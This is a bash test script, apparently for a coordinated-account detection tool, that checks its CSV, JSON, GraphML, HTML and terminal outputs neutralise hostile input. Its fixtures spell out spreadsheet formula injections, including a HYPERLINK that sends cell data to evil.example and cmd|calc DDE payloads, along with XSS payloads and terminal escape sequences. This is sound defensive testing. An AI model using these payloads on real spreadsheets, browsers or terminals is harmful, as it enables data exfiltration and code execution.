#!/usr/bin/env bash
# hostile_outputs.sh — output safety (issue 6): strings from the input
# reach every output file intact and harmless.  Six accounts whose ids
# are attacks on CSV readers, spreadsheets, JSON and HTML co-share three
# links within seconds, so they form one cluster and appear in every
# file.  Checked: accounts.csv and edges.csv read back with Python's csv
# module (RFC 4180) give every id byte for byte, with one leading ' on ids
# a spreadsheet would run as a formula (= + - @) and no cell starting with
# one of those; report.json parses and holds the exact ids; network.graphml
# parses as XML and holds the exact ids (control characters, which XML
# 1.0 cannot hold, as U+FFFD); report.html holds no payload
# unescaped, and an HTML parser finds in it as many <script>, <img>,
# <svg> tags and on* attributes as in the same report with harmless ids;
# `cibscan eval` matches the neutralised ids to a truth file's plain ones;
# and a failing run leaves an earlier report as it was (outputs are
# replaced whole or not at all).
source "$CIBSCAN_TESTLIB"
W=$WORK

python3 - "$W" <<'PY'
import csv, io, sys
w = sys.argv[1]
hostile = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    '+1-2,"quoted", comma',
    '-cmd|\' /C calc\'!A0',
    '@SUM(1+1)*cmd|\' /C calc\'!A0',
    '<script>alert(1)</script>\nline two\r\nline three',
    '"><img src=x onerror=alert(2)> \\ back\\slash \x01ctl \u2028ls \u2029ps',
]
benign = ['user%d' % i for i in range(len(hostile))]
texts = ['</script><script>alert(3)</script>', '<svg onload=alert(4)>', 'plain']
def write(name, ids):
    f = io.StringIO()
    c = csv.writer(f, lineterminator='\n')
    c.writerow(['account_id', 'time', 'url', 'text', 'display_name', 'platform'])
    for k in range(3):
        for i, a in enumerate(ids):
            c.writerow([a, '2020-01-01T10:%02d:%02dZ' % (k, i), 'http://x.org/%d' % k,
                        texts[k], '<b onmouseover=alert(5)>' + str(i), '<i>plat</i>'])
    open(w + '/' + name, 'w', newline='', encoding='utf-8').write(f.getvalue())
write('hostile.csv', hostile)
write('benign.csv', benign)
with open(w + '/truth.csv', 'w', newline='', encoding='utf-8') as f:
    c = csv.writer(f, lineterminator='\n')
    c.writerow(['account_id', 'network_id'])
    for a in hostile:
        c.writerow([a, 'N1'])
    c.writerow(['organic', ''])
open(w + '/ids.txt', 'w', encoding='utf-8', newline='').write('\0'.join(hostile))
PY

# --no-significance: 6 accounts are too few for the pair test (issue 5)
"$CIBSCAN" detect --quiet --no-significance --window 60 --min-cluster 3 --out "$W/h" "$W/hostile.csv" 2>"$W/h.stderr"
expect_eq "hostile run: exit status" 0 $?
"$CIBSCAN" detect --quiet --no-significance --window 60 --min-cluster 3 --out "$W/b" "$W/benign.csv" 2>"$W/b.stderr"
expect_eq "benign run: exit status" 0 $?

# every check prints one line "ok" or what is wrong
while IFS= read -r line; do
  if [ "$line" == "ok" ]; then pass; else fail "$line"; fi
done < <(python3 - "$W" <<'PY'
import csv, json, re, sys
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
w = sys.argv[1]
ids = open(w + '/ids.txt', encoding='utf-8', newline='').read().split('\0')
FORMULA = '=+-@'
def unneutral(v):
    return v[1:] if len(v) > 1 and v[0] == "'" and v[1] in FORMULA else v
def say(ok, what):
    print('ok' if ok else what)

# CSV: exact ids back, formulas neutralised, no cell a spreadsheet would run
rows = list(csv.DictReader(open(w + '/h/accounts.csv', newline='', encoding='utf-8')))
say(sorted(unneutral(r['account_id']) for r in rows) == sorted(ids),
    'accounts.csv: ids differ from the input: %r' % [r['account_id'] for r in rows])
for name in ('accounts.csv', 'edges.csv'):
    cells = [c for r in csv.reader(open(w + '/h/' + name, newline='', encoding='utf-8')) for c in r]
    bad = [c for c in cells if c[:1] in FORMULA and c[:1]]
    say(not bad, '%s: cells a spreadsheet runs as formulas: %r' % (name, bad))
neutral = {r['account_id'] for r in rows if r['account_id'].startswith("'")}
say(len(neutral) == 4, 'accounts.csv: %d ids neutralised, want the 4 formula ids' % len(neutral))
edges = list(csv.DictReader(open(w + '/h/edges.csv', newline='', encoding='utf-8')))
say(len(edges) == 15, 'edges.csv: %d pairs, want 15 (6 accounts, all co-sharing)' % len(edges))
say({unneutral(e['source']) for e in edges} | {unneutral(e['target']) for e in edges} == set(ids),
    'edges.csv: ids differ from the input')

# JSON: parses, exact ids in the cluster, control characters escaped
raw = open(w + '/h/report.json', encoding='utf-8').read()
j = json.loads(raw)
say(len(j['clusters']) == 1 and sorted(j['clusters'][0]['accounts']) == sorted(ids),
    'report.json: cluster ids differ: %r' % [c.get('accounts') for c in j['clusters']])
say(not re.search('[\x00-\x09\x0b-\x1f]', raw), 'report.json: raw control character')

# GraphML: well-formed XML holding the exact ids
root = ET.parse(w + '/h/network.graphml').getroot()
nodes = [n.get('id') for n in root.iter() if n.tag.endswith('node')]
# XML 1.0 cannot hold C0 controls but TAB, LF, CR: they become U+FFFD
xml_ids = {re.sub('[\x00-\x08\x0b\x0c\x0e-\x1f]', '\ufffd', i) for i in ids}
say(xml_ids == set(nodes), 'network.graphml: node ids %r, want %r' % (nodes, xml_ids))

# HTML: no payload verbatim, and no more active markup than a benign report
h = open(w + '/h/report.html', encoding='utf-8').read()
b = open(w + '/b/report.html', encoding='utf-8').read()
for p in ['<script>alert(1)', '<img src=x', '</script><script>alert(3)', '<svg onload',
          '<b onmouseover', '<i>plat</i>']:
    say(p not in h, 'report.html: payload %r appears unescaped' % p)
class Active(HTMLParser):
    """Counts what a browser would run or load: script, img, svg, iframe,
    object tags and on* event attributes, as an HTML parser sees them."""
    def __init__(self):
        super().__init__()
        self.seen = {}
    def handle_starttag(self, tag, attrs):
        keys = [tag] if tag in ('script', 'img', 'svg', 'iframe', 'object') else []
        keys += ['@' + k for k, _ in attrs if k.startswith('on')]
        for k in keys:
            self.seen[k] = self.seen.get(k, 0) + 1
def active(page):
    p = Active()
    p.feed(page)
    return p.seen
say(active(h) == active(b), 'report.html: active markup %r, benign report has %r' % (active(h), active(b)))
PY
)

# eval reads accounts.csv's neutralised ids as the truth file's plain ones
"$CIBSCAN" eval --truth "$W/truth.csv" --json "$W/eval.json" "$W/h/accounts.csv" >"$W/eval.out" 2>&1
expect_eq "eval: exit status" 0 $?
expect_eq "eval: recall over the hostile ids" 1.0 "$(json "$W/eval.json" "j['recall']")"
expect_eq "eval: precision" 1.0 "$(json "$W/eval.json" "j['precision']")"

# The tally, rhythm's table and eval print values of the input on a
# terminal: ESC, BEL and the C1 CSI (U+009B) in a platform, a group and a
# network id come out as '?', never as escape sequences.
python3 - "$W" <<'PY'
import sys
w = sys.argv[1]
esc = '\x1b[31mRED\x1b[0m\x1b]0;pwned\x07\u009b2J'
rows = ['account_id,time,url,platform']
for k in range(3):
    for i in range(3):
        rows.append('e%d,2020-01-01T10:%02d:%02dZ,http://x.org/%d,%s' % (i, k, i, k, esc))
open(w + '/esc.csv', 'w', encoding='utf-8').write('\n'.join(rows) + '\n')
open(w + '/esc_truth.csv', 'w', encoding='utf-8').write(
    'account_id,network_id\n' + ''.join('e%d,%s\n' % (i, esc) for i in range(3)))
PY
"$CIBSCAN" detect --no-significance --out "$W/e" "$W/esc.csv" >"$W/e.stdout" 2>/dev/null
expect_eq "escape run: exit status" 0 $?
"$CIBSCAN" rhythm --group-by platform "$W/esc.csv" >"$W/r.stdout" 2>/dev/null
"$CIBSCAN" eval --truth "$W/esc_truth.csv" "$W/e/accounts.csv" >"$W/v.stdout" 2>/dev/null
for out in e r v; do
  expect_eq "$out: no ESC, BEL or C1 control on stdout" 0 \
    "$(python3 -c "import sys; b=open(sys.argv[1],'rb').read(); print(sum(b.count(x) for x in (b'\x1b', b'\x07', b'\xc2\x9b')))" "$W/$out.stdout")"
done
expect_match "tally: the platform shown with '?' (platforms are lower-cased)" '\?\[31mred\?\[0m\?\]0;pwned\?\?2j 3' "$(cat "$W/e.stdout")"

# Outputs are replaced whole or not at all: a run that fails after an
# earlier one leaves every file of the earlier report byte for byte.
before=$(cd "$W/h" && sha256sum ./* | sort)
"$CIBSCAN" detect --quiet --out "$W/h" "$W/hostile.csv" "$W/no_such_file.csv" 2>/dev/null
expect_eq "failed rerun: exit status" 3 $?
expect_eq "failed rerun: earlier report unchanged" "$before" "$(cd "$W/h" && sha256sum ./* | sort)"
if ls -A "$W/h" | grep -q staging; then fail "failed rerun: staging left"; else pass; fi

finish
